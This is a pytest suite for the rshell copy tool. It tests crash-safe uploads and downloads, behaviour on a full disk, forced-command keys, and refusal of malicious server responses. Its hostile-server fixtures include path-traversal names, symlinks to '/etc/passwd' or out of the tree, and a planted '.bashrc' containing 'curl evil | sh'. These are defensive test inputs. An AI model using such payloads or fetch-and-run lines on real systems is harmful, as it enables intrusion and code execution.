"""Copies that go wrong (issue 14): interrupted, out of disk, refused, or
served by a hostile server.

The guarantees: an interrupted copy (client killed, server killed, link
cut, disk full) leaves the old file intact and no temporary file behind,
and the client that survives gets a one-line RshellError; a download only
writes under the destination the user named, whatever names and links the
server sends (the scp CVE-2019-6111 / CVE-2018-20685 class); a file that
arrives wrong (digest, size) or a stream out of order writes nothing; a
command= key copies nothing.

Real rshell-server subprocesses with key auth, a client in a subprocess
that can be SIGKILLed at a chosen offset (support.copy_peers.CopyClient),
a relay that cuts the link after N bytes, and a fake server speaking
rshell's own sans-IO protocol.  Every wait is bounded.
"""

from __future__ import annotations

import errno
import hashlib
import os
import random
import stat
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

import rshell
from rshell.errors import ConnectionFailed, CopyFailed, RshellError
from rshell.protocol.files import DIR, END, FILE, LINK, Entry, EntryEnd, FileData, TransferEnd
from rshell.protocol.messages import Message
from tests.conftest import ServerProcess, connect
from tests.support.copy_peers import DEADLINE, CopyClient, CutProxy, HostileServer, entries
from tests.support.procs import fd_targets, wait_until

StartServer = Callable[..., ServerProcess]
MiB = 1 << 20
BIG = 64 * MiB
#: Where the copies are cut: seeded, so a failure can be replayed.
OFFSETS = sorted(random.Random(14).sample(range(MiB, BIG - MiB), 3))
OLD = random.Random(6111).randbytes(300_000)


@pytest.fixture(scope="module")
def big(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """64 MiB of random bytes, made once for the module."""
    path = tmp_path_factory.mktemp("big") / "big.bin"
    rng = random.Random(20685)
    with open(path, "wb") as f:
        for _ in range(BIG // MiB):
            f.write(rng.randbytes(MiB))
    return path


@pytest.fixture
def clients() -> Iterator[list[CopyClient]]:
    """Client subprocesses a failed test may leave: killed afterwards."""
    started: list[CopyClient] = []
    yield started
    for client in started:
        client.kill()


def old_file(directory: Path) -> Path:
    """``directory/target.bin`` holding OLD, alone in ``directory``."""
    directory.mkdir(parents=True, exist_ok=True)
    target = directory / "target.bin"
    target.write_bytes(OLD)
    return target


def assert_untouched(target: Path) -> None:
    """The old file is whole, and nothing else is in its directory (no .part)."""
    assert sorted(os.listdir(target.parent)) == [target.name]
    assert target.read_bytes() == OLD


def assert_one_line_error(outcome: dict[str, Any]) -> None:
    """The API raised an RshellError whose message is one line, and which the
    CLI reports as a connection failure (255), not a failed file (1)."""
    assert outcome["error"] is not None, "the copy did not fail"
    assert outcome["rshell"] and outcome["exit"] == 255, outcome
    assert outcome["message"] and "\n" not in outcome["message"], outcome
    assert "Traceback" not in outcome["message"], outcome


def _server(start_server: StartServer, remote: Path, *extra: str, **kw: Any) -> ServerProcess:
    return start_server("--home", str(remote), *extra, **kw)


def _launch(clients: list[CopyClient], home: Path, op: str, address: str, src: str, dst: str,
            pause_at: int = -1) -> CopyClient:
    client = CopyClient(home, op, address, src, dst, pause_at)
    clients.append(client)
    return client


def held(srv: ServerProcess, directory: Path) -> list[str]:
    """The server's open descriptors on files in ``directory`` (an unnamed
    temporary file shows as ``DIR/#INODE (deleted)``)."""
    return [t for t in fd_targets(srv.proc.pid) if f"->{directory}/" in t]


def _serves(srv: ServerProcess) -> None:
    with connect(srv) as conn:
        assert conn.run("true").ok


# ---- uploads cut short ------------------------------------------------------------


@pytest.mark.parametrize("offset", OFFSETS)
def test_upload_client_killed(home: Path, tmp_path: Path, big: Path, start_server: StartServer,
                              clients: list[CopyClient], offset: int) -> None:
    """A client SIGKILLed mid-upload: the server's old file is whole, nothing
    stays beside it, and the server goes on serving."""
    target = old_file(tmp_path / "remote" / "dst")
    srv = _server(start_server, tmp_path / "remote")
    client = _launch(clients, home, "put", srv.address, str(big), "dst/target.bin", offset)
    assert offset <= client.paused() < BIG
    assert wait_until(lambda: held(srv, target.parent), DEADLINE)
    assert all(t.endswith(" (deleted)") for t in held(srv, target.parent))  # unnamed
    client.kill()
    srv.wait_for_log(r"disconnected", timeout=DEADLINE)
    assert held(srv, target.parent) == []
    assert_untouched(target)
    assert os.listdir(tmp_path / "remote") == ["dst"]
    _serves(srv)


@pytest.mark.parametrize("offset", OFFSETS)
def test_upload_server_killed(home: Path, tmp_path: Path, big: Path, start_server: StartServer,
                              clients: list[CopyClient], offset: int) -> None:
    """The server SIGKILLed mid-upload: the client says so in one line, the old
    file is whole, and it still is once the server has started again."""
    remote = tmp_path / "remote"
    target = old_file(remote / "dst")
    srv = _server(start_server, remote)
    client = _launch(clients, home, "put", srv.address, str(big), "dst/target.bin", offset)
    assert offset <= client.paused() < BIG
    srv.proc.kill()
    srv.proc.wait(DEADLINE)
    assert_untouched(target)
    client.resume()
    assert_one_line_error(client.outcome())
    _serves(_server(start_server, remote))
    assert_untouched(target)
    assert os.listdir(remote) == ["dst"]


@pytest.mark.parametrize("offset", OFFSETS)
def test_upload_link_cut(home: Path, tmp_path: Path, big: Path, start_server: StartServer,
                         clients: list[CopyClient], offset: int) -> None:
    """The link cut after ``offset`` bytes upward: one line on the client, the
    old file whole on the server, nothing beside it."""
    target = old_file(tmp_path / "remote" / "dst")
    srv = _server(start_server, tmp_path / "remote")
    proxy = CutProxy(srv.port, offset, upward=True)
    srv.pin(home, proxy.address, srv.fingerprint)
    try:
        client = _launch(clients, home, "put", proxy.address, str(big), "dst/target.bin")
        outcome = client.outcome()
        assert proxy.cut.wait(DEADLINE) and proxy.relayed == offset
    finally:
        proxy.close()
    assert_one_line_error(outcome)
    srv.wait_for_log(r"disconnected", timeout=DEADLINE)
    assert held(srv, target.parent) == []
    assert_untouched(target)
    _serves(srv)


# ---- downloads cut short ----------------------------------------------------------


def _remote_big(remote: Path, big: Path) -> None:
    remote.mkdir()
    os.link(big, remote / "src.bin")


@pytest.mark.parametrize("offset", OFFSETS)
def test_download_client_killed(home: Path, tmp_path: Path, big: Path,
                                start_server: StartServer, clients: list[CopyClient],
                                offset: int) -> None:
    """A client SIGKILLed mid-download leaves its old file whole and nothing
    beside it (its temporary file had no name)."""
    _remote_big(tmp_path / "remote", big)
    target = old_file(tmp_path / "local")
    srv = _server(start_server, tmp_path / "remote")
    client = _launch(clients, home, "get", srv.address, "src.bin", str(target), offset)
    assert offset <= client.paused() < BIG
    client.kill()
    assert_untouched(target)
    srv.wait_for_log(r"disconnected", timeout=DEADLINE)
    _serves(srv)


@pytest.mark.parametrize("offset", OFFSETS)
def test_download_server_killed(home: Path, tmp_path: Path, big: Path,
                                start_server: StartServer, clients: list[CopyClient],
                                offset: int) -> None:
    """The server SIGKILLed mid-download: one line on the client, its old file
    whole, nothing beside it."""
    _remote_big(tmp_path / "remote", big)
    target = old_file(tmp_path / "local")
    srv = _server(start_server, tmp_path / "remote")
    client = _launch(clients, home, "get", srv.address, "src.bin", str(target), offset)
    assert offset <= client.paused() < BIG
    srv.proc.kill()
    srv.proc.wait(DEADLINE)
    client.resume()
    assert_one_line_error(client.outcome())
    assert_untouched(target)


@pytest.mark.parametrize("offset", OFFSETS)
def test_download_link_cut(home: Path, tmp_path: Path, big: Path, start_server: StartServer,
                           clients: list[CopyClient], offset: int) -> None:
    """The link cut after ``offset`` bytes downward: one line, the old file whole."""
    _remote_big(tmp_path / "remote", big)
    target = old_file(tmp_path / "local")
    srv = _server(start_server, tmp_path / "remote")
    proxy = CutProxy(srv.port, offset, upward=False)
    srv.pin(home, proxy.address, srv.fingerprint)
    try:
        client = _launch(clients, home, "get", proxy.address, "src.bin", str(target))
        outcome = client.outcome()
        assert proxy.cut.wait(DEADLINE) and proxy.relayed == offset
    finally:
        proxy.close()
    assert_one_line_error(outcome)
    assert_untouched(target)


# ---- a full disk --------------------------------------------------------------------

#: Run the server with a file size limit, SIGXFSZ ignored: writes past it
#: fail with EFBIG, as on a full disk, instead of killing the server.
_LIMITED = ("import os, resource, signal, sys; n = int(sys.argv[1]); "
            "resource.setrlimit(resource.RLIMIT_FSIZE, (n, n)); "
            "signal.signal(signal.SIGXFSZ, signal.SIG_IGN); os.execv(sys.argv[2], sys.argv[2:])")


def test_disk_full_fails_the_file_and_keeps_the_connection(
        tmp_path: Path, start_server: StartServer) -> None:
    """A file the server cannot write fails alone, in one line naming it with
    the OS's reason; the old file is whole, nothing is left beside it, and
    the same connection runs commands and takes a smaller file."""
    target = old_file(tmp_path / "remote" / "dst")
    srv = _server(start_server, tmp_path / "remote",
                  launcher=[sys.executable, "-c", _LIMITED, str(MiB)])
    source = tmp_path / "large.bin"
    source.write_bytes(random.Random(1).randbytes(8 * MiB))
    small = tmp_path / "small.bin"
    small.write_bytes(b"small enough\n")
    with connect(srv) as conn:
        with pytest.raises(CopyFailed) as failed:
            conn.put(str(source), "dst/target.bin")
        message = str(failed.value)
        assert "\n" not in message
        assert message.startswith("target.bin: "), message
        assert os.strerror(errno.EFBIG) in message, message
        assert failed.value.copied is not None and failed.value.copied.files == 0
        assert_untouched(target)
        assert held(srv, target.parent) == []
        assert conn.run("true").ok
        copied = conn.put(str(small), "dst/small.bin")
    assert copied.files == 1
    assert sorted(os.listdir(target.parent)) == ["small.bin", "target.bin"]
    assert (target.parent / "small.bin").read_bytes() == b"small enough\n"
    assert target.read_bytes() == OLD


# ---- keys that may not copy ------------------------------------------------------------


def _forced(srv: ServerProcess, options: str) -> None:
    """Authorize the test's key with ``options`` only (the mtime moved a full
    second on, so the server sees the change without a sleep)."""
    path = srv.home / "server" / "authorized_keys"
    before = path.stat().st_mtime_ns
    key = (srv.home / "id_ed25519.pub").read_text().strip()
    path.write_text(f"{options} {key}\n")
    st = path.stat()
    os.utime(path, ns=(st.st_atime_ns, max(st.st_mtime_ns, before) + 1_000_000_000))


def test_forced_command_key_cannot_copy(tmp_path: Path, start_server: StartServer) -> None:
    """A command= key can neither upload nor download: one line saying so,
    nothing written on either side, the connection still usable.  (One case:
    tests/test_copy_api.py goes through command= and restrict.)"""
    remote = tmp_path / "remote"
    remote.mkdir()
    (remote / "secret").write_text("not for you\n")
    srv = _server(start_server, remote)
    _forced(srv, 'command="true"')
    local = tmp_path / "local"
    local.mkdir()
    (local / "file").write_text("upload me\n")
    with connect(srv) as conn:
        with pytest.raises(CopyFailed, match="not permitted") as put:
            conn.put(str(local / "file"), "file")
        with pytest.raises(CopyFailed, match="not permitted") as get:
            conn.get("secret", str(local / "secret"))
        assert conn.run("true").ok
    assert "\n" not in str(put.value) + str(get.value)
    assert os.listdir(remote) == ["secret"]
    assert os.listdir(local) == ["file"]


# ---- a hostile server -------------------------------------------------------------------


def _file(name: str, data: bytes = b"evil\n") -> list[Message]:
    return [Entry(FILE, name, size=len(data)), FileData(data),
            EntryEnd(hashlib.sha256(data).hexdigest())]


def _dir(name: str, *inside: list[Message]) -> list[Message]:
    """A directory asking for mode 0777 (with ``-p``, CVE-2018-20685 would
    chmod the destination itself through a name ``.`` or empty)."""
    return [Entry(DIR, name, mode=0o777), *[m for part in inside for m in part], Entry(END)]


def _link(name: str, target: str) -> list[Message]:
    return [Entry(LINK, name, target=target)]


@pytest.fixture
def hostile() -> Iterator[Callable[[list[Message]], HostileServer]]:
    """Factory: a fake server that answers a Get with the messages given."""
    servers: list[HostileServer] = []

    def start(script: list[Message]) -> HostileServer:
        srv = HostileServer(script)
        servers.append(srv)
        return srv

    yield start
    for srv in servers:
        srv.close()


@pytest.fixture
def landing(tmp_path: Path) -> tuple[Path, Path]:
    """(the destination, mode 0755, and an empty sentinel directory beside its parent)."""
    dest = tmp_path / "down" / "dest"
    dest.mkdir(parents=True)
    dest.chmod(0o755)
    sentinel = tmp_path / "sentinel"
    sentinel.mkdir()
    return dest, sentinel


def _connect(srv: HostileServer) -> rshell.Connection:
    """A connection to the fake server (plain TCP, no key: it asks none)."""
    return rshell.connect(srv.address, tls=False, auth=False, connect_timeout=DEADLINE)


def _get(srv: HostileServer, paths: list[str], dest: Path) -> None:
    """``conn.get`` of ``paths`` from the fake server, recursive and preserving
    modes.  The tests ask for the names the good entries carry, so that only
    the hostile entry is a surprise."""
    with _connect(srv) as conn:
        conn.get(paths, str(dest), recursive=True, preserve=True)


def _good(name: str) -> list[Message]:
    return _file(name, f"good {name}\n".encode())


def _outside_untouched(tmp_path: Path, dest: Path, sentinel: Path) -> None:
    """Nothing was made beside the destination, in the sentinel, or above."""
    assert os.listdir(dest.parent) == [dest.name]
    assert os.listdir(sentinel) == []
    assert sorted(os.listdir(tmp_path)) == ["down", "rshell-home", "sentinel"]
    assert stat.S_IMODE(dest.stat().st_mode) == 0o755
    assert not Path("/abs").exists()


#: (the entries sent between two good files, the refused entry's path, the
#: reason, what else the destination holds afterwards); ``s`` is the sentinel.
HostileCase = Callable[[Path], tuple[list[Message], str, str, dict[str, str]]]
HOSTILE: dict[str, HostileCase] = {
    "parent-in-name": lambda s: (_file("../evil"), "../evil", "refused: a name with '/'", {}),
    "absolute-name": lambda s: (_file("/abs/evil"), "/abs/evil", "refused: a name with '/'",
                                {}),
    "absolute-name-to-sentinel": lambda s: (_file(f"{s}/evil"), f"{s}/evil",
                                            "refused: a name with '/'", {}),
    "slash-in-name": lambda s: (_file("a/b"), "a/b", "refused: a name with '/'", {}),
    "dot-directory": lambda s: (_dir(".", _file("evil")), ".", "refused: the name '.'", {}),
    "dotdot-directory": lambda s: (_dir("..", _file("evil")), "..", "refused: the name '..'",
                                   {}),
    # An empty name is shown quoted, so the line does not start with ': '.
    "empty-name": lambda s: (_dir("", _file("evil")), "''", "refused: an empty name", {}),
    "absolute-link": lambda s: (_link("lnk", "/etc/passwd"), "lnk",
                                "refused: a link to an absolute path", {}),
    "climbing-link": lambda s: (_link("out", "../../outside"), "out",
                                "refused: a link out of the tree", {}),
    "directory-over-inner-link": lambda s: (
        _dir("d", _link("up", ".."), _dir("up", _file("evil")), _file("ok", b"ok\n")),
        "d/up", "exists and is not a directory",
        {"d": "dir", "d/up": "link:..", "d/ok": "file:ok\n"}),
    "directory-over-link": lambda s: (
        _link("esc", ".") + _dir("esc", _file("evil")), "esc",
        "exists and is not a directory", {"esc": "link:."}),
}


@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_entry_is_refused(home: Path, tmp_path: Path, landing: tuple[Path, Path],
                                  hostile: Callable[[list[Message]], HostileServer],
                                  capfd: pytest.CaptureFixture[str], case: str) -> None:
    """A name or link that would reach outside the destination is refused in
    one line naming it; nothing is made outside; the good entries around it
    in the same stream are written."""
    dest, sentinel = landing
    evil, rel, reason, extra = HOSTILE[case](sentinel)
    srv = hostile(_good("before") + evil + _good("after") + [TransferEnd(2, 24)])
    with pytest.raises(CopyFailed) as failed:
        # Asked twice: a link and a directory of one name must meet the name
        # rule, not the asked-for rule (a slot left unused is harmless).
        top = rel.split("/")[0].strip("'") or "x"
        _get(srv, ["before", top, top, "after"], dest)
    message = str(failed.value)
    assert "\n" not in message, message
    assert message.startswith(f"{rel}: ") and reason in message, message
    assert failed.value.copied is not None
    assert failed.value.copied.files == 2 + ("d/ok" in extra)
    assert entries(dest) == {"before": "file:good before\n", "after": "file:good after\n",
                             **extra}
    _outside_untouched(tmp_path, dest, sentinel)
    assert capfd.readouterr().err == ""


def test_name_with_nul_ends_the_copy(home: Path, tmp_path: Path, landing: tuple[Path, Path],
                                     hostile: Callable[[list[Message]], HostileServer],
                                     capfd: pytest.CaptureFixture[str]) -> None:
    """A name holding NUL (sent as JSON's \\u0000) is refused by the codec
    itself: the copy ends with one line saying so, the file before it stays,
    nothing else is made."""
    dest, sentinel = landing
    srv = hostile(_good("before") + _file("x\0y") + _good("after") + [TransferEnd(2, 24)])
    with pytest.raises(RshellError) as failed:
        _get(srv, ["before", "x", "after"], dest)
    message = str(failed.value)
    assert "\n" not in message and "NUL" in message, message
    assert entries(dest) == {"before": "file:good before\n"}
    _outside_untouched(tmp_path, dest, sentinel)
    assert capfd.readouterr().err == ""


def test_links_already_in_the_destination_are_never_followed(
        home: Path, tmp_path: Path, landing: tuple[Path, Path],
        hostile: Callable[[list[Message]], HostileServer]) -> None:
    """Links the destination already holds (planted, or the user's) are not
    written through: a directory entry of that name is refused, a file entry
    replaces the link itself."""
    dest, sentinel = landing
    (dest / "planted").symlink_to(sentinel)
    precious = tmp_path / "precious"
    precious.write_text("precious\n")
    (dest / "victim").symlink_to(precious)
    srv = hostile(_dir("planted", _file("evil")) + _file("victim", b"new\n")
                  + [TransferEnd(1, 4)])
    with pytest.raises(CopyFailed) as failed:
        _get(srv, ["planted", "victim"], dest)
    assert str(failed.value) == "planted: exists and is not a directory"
    assert entries(dest) == {"planted": f"link:{sentinel}", "victim": "file:new\n"}
    assert precious.read_text() == "precious\n"
    assert os.listdir(sentinel) == []


def test_a_top_level_name_not_asked_for_is_refused(
        home: Path, tmp_path: Path, landing: tuple[Path, Path],
        hostile: Callable[[list[Message]], HostileServer]) -> None:
    """The server sends each path asked for as a top-level entry named by its
    last component (PROTOCOL.md 7.9); one it was not asked for (scp's
    CVE-2019-6111: ``scp host:notes.txt ~`` answered with ``.bashrc``) is
    refused, in one line naming it, as OpenSSH 8.0's scp refuses it."""
    dest, sentinel = landing
    srv = hostile(_file(".bashrc", b"curl evil | sh\n") + _good("notes.txt")
                  + [TransferEnd(2, 32)])
    with pytest.raises(RshellError) as failed:
        _get(srv, ["docs/notes.txt"], dest)
    assert "\n" not in str(failed.value) and ".bashrc" in str(failed.value), failed.value
    assert ".bashrc" not in entries(dest)
    _outside_untouched(tmp_path, dest, sentinel)


def test_link_out_of_the_tree_through_another_link_is_refused(
        home: Path, tmp_path: Path, landing: tuple[Path, Path],
        hostile: Callable[[list[Message]], HostileServer]) -> None:
    """A link whose target climbs out of the tree through a link the same
    stream made is a link out of the tree too, and is refused."""
    dest, sentinel = landing
    srv = hostile(_dir("d", _link("up", "..")) + _link("x", f"d/up/../../{sentinel.name}")
                  + [TransferEnd(0, 0)])
    try:
        _get(srv, ["d", "x"], dest)
    except CopyFailed as exc:
        assert str(exc).startswith("x: refused"), exc
    escaping = [rel for rel, kind in entries(dest).items() if kind.startswith("link:")
                and not Path(os.path.realpath(dest / rel)).is_relative_to(dest)]
    assert escaping == []
    _outside_untouched(tmp_path, dest, sentinel)


#: A file whose end does not match its entry: (the entry, the data, the end, the reason).
BROKEN: dict[str, tuple[Entry, bytes, EntryEnd, str]] = {
    "wrong-digest": (Entry(FILE, "x", size=5), b"12345", EntryEnd("0" * 64),
                     "SHA-256 mismatch"),
    "short": (Entry(FILE, "x", size=9), b"12345",
              EntryEnd(hashlib.sha256(b"12345").hexdigest()), "5 of 9 bytes arrived"),
    "long": (Entry(FILE, "x", size=4), b"12345",
             EntryEnd(hashlib.sha256(b"12345").hexdigest()), "more bytes than announced"),
    "sender-failed": (Entry(FILE, "x", size=5), b"12345", EntryEnd("", "read error: EIO"),
                      "read error: EIO"),
}


@pytest.mark.parametrize("case", list(BROKEN))
def test_broken_file_leaves_the_old_one(home: Path, tmp_path: Path,
                                        hostile: Callable[[list[Message]], HostileServer],
                                        case: str) -> None:
    """A file that arrives wrong (digest, size, the sender's own failure) is
    dropped in one line naming it; the old file is whole, nothing beside it."""
    entry, data, end, reason = BROKEN[case]
    target = old_file(tmp_path / "local")
    srv = hostile([entry, FileData(data), end, TransferEnd(0, 0, 1)])
    with pytest.raises(CopyFailed) as failed:
        _get(srv, ["x"], target)
    message = str(failed.value)
    assert "\n" not in message and message.startswith("target.bin: ") and reason in message
    assert_untouched(target)


#: Streams out of order: no receiver may guess what was meant.
DISORDER: dict[str, list[Message]] = {
    "data-before-entry": [FileData(b"orphan"), *_good("after")],
    "end-at-root": [Entry(END), *_good("after")],
    "end-of-no-file": [EntryEnd("0" * 64), *_good("after")],
    "entry-inside-file": [Entry(FILE, "a", size=10), FileData(b"12345"), *_good("after")],
}


@pytest.mark.parametrize("case", list(DISORDER))
def test_stream_out_of_order_fails_cleanly(home: Path, tmp_path: Path,
                                           landing: tuple[Path, Path],
                                           hostile: Callable[[list[Message]], HostileServer],
                                           capfd: pytest.CaptureFixture[str],
                                           case: str) -> None:
    """An entry stream out of order ends the copy with one line (an
    RshellError, no traceback), writes nothing, and gives the connection up
    (its state is unknown)."""
    dest, sentinel = landing
    srv = hostile([*DISORDER[case], TransferEnd(1, 11)])
    with _connect(srv) as conn:
        with pytest.raises(RshellError) as failed:
            conn.get(["a", "after"], str(dest), recursive=True)
        assert "\n" not in str(failed.value), failed.value
        with pytest.raises(ConnectionFailed):
            conn.run("true")
    assert entries(dest) == {}
    _outside_untouched(tmp_path, dest, sentinel)
    assert capfd.readouterr().err == ""


def test_a_name_twice_in_a_new_directory_ends_as_the_last_one(
        home: Path, tmp_path: Path, landing: tuple[Path, Path],
        hostile: Callable[[list[Message]], HostileServer]) -> None:
    """In a directory the copy made, a file is linked in under its own name;
    the same name sent again replaces it (as in any directory), and a file
    over a directory of its name fails in one line: nothing beside them."""
    dest, _ = landing
    srv = hostile([*_dir("d", _file("x", b"one\n"), _file("x", b"two\n"), _dir("sub"),
                         _file("sub", b"three\n"), _good("after")), TransferEnd(4, 0, 0)])
    with pytest.raises(CopyFailed) as failed:
        _get(srv, ["d"], dest)
    message = str(failed.value)
    assert "\n" not in message and message.startswith("d/sub: ")
    assert sorted(os.listdir(dest / "d")) == ["after", "sub", "x"]
    assert (dest / "d" / "x").read_bytes() == b"two\n"
    assert (dest / "d" / "sub").is_dir() and os.listdir(dest / "d" / "sub") == []
    assert (dest / "d" / "after").read_bytes() == b"good after\n"
